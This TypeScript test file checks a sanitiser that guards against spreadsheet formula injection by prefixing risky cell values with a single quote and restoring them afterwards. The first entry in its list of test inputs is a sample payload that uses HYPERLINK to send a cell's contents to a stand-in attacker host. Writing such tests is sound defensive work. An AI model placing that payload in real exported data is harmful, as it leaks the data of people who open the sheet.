import { describe, expect, it } from 'vitest'
import { neutraliseFormula, restoreFormula } from '../index.ts'

/** Values a spreadsheet would run (or that OWASP lists), each of which must get the prefix. */
const FORMULAS = [
  '=HYPERLINK("https://attacker.example/?d="&A2,"open")',
  '+1+1',
  '-1990s: first gatherings',
  '@SUM(A1:A9)',
  '\tindented',
  '\rcarriage return',
  '\nline feed',
  '  =1+1',
  '"=1+1"',
  '"\'@x',
  '\uFF1D1+1',
  '\uFF0B1',
  '\uFF0D1',
  '\uFF20x',
  ' \ttab after a space',
]

/** Values that must be written exactly as they are. */
const PLAIN = ['', 'Themelimi i CEL', 'info@cel-ks.org', '1990s - 2000s', "O'Brien", "'quoted'", '  leading space', 'a=b', '"quoted"']

/** Values that already start with the prefix and still have to round-trip. */
const PREFIXED = ["'=1+1", "''-x", "'  @x", "' \t", "'"]

describe('neutraliseFormula', () => {
  it.each(FORMULAS)('prefixes %j with one single quote', (value) => {
    expect(neutraliseFormula(value)).toBe(`'${value}`)
  })

  it.each(PLAIN)('leaves %j as it is', (value) => {
    expect(neutraliseFormula(value)).toBe(value)
  })

  it('prefixes a value that already starts with a quote and a trigger once more', () => {
    expect(neutraliseFormula("'=1+1")).toBe("''=1+1")
  })
})

describe('restoreFormula', () => {
  it.each([...FORMULAS, ...PLAIN, ...PREFIXED])('round-trips %j', (value) => {
    expect(restoreFormula(neutraliseFormula(value))).toBe(value)
  })

  it('reads a cell typed without the prefix as it stands', () => {
    expect(restoreFormula('-1990s')).toBe('-1990s')
    expect(restoreFormula("'quoted'")).toBe("'quoted'")
    expect(restoreFormula("'")).toBe("'")
  })

  it("takes the spreadsheet's text prefix off a hand-typed formula-like cell", () => {
    expect(restoreFormula("'-1990s")).toBe('-1990s')
  })
})
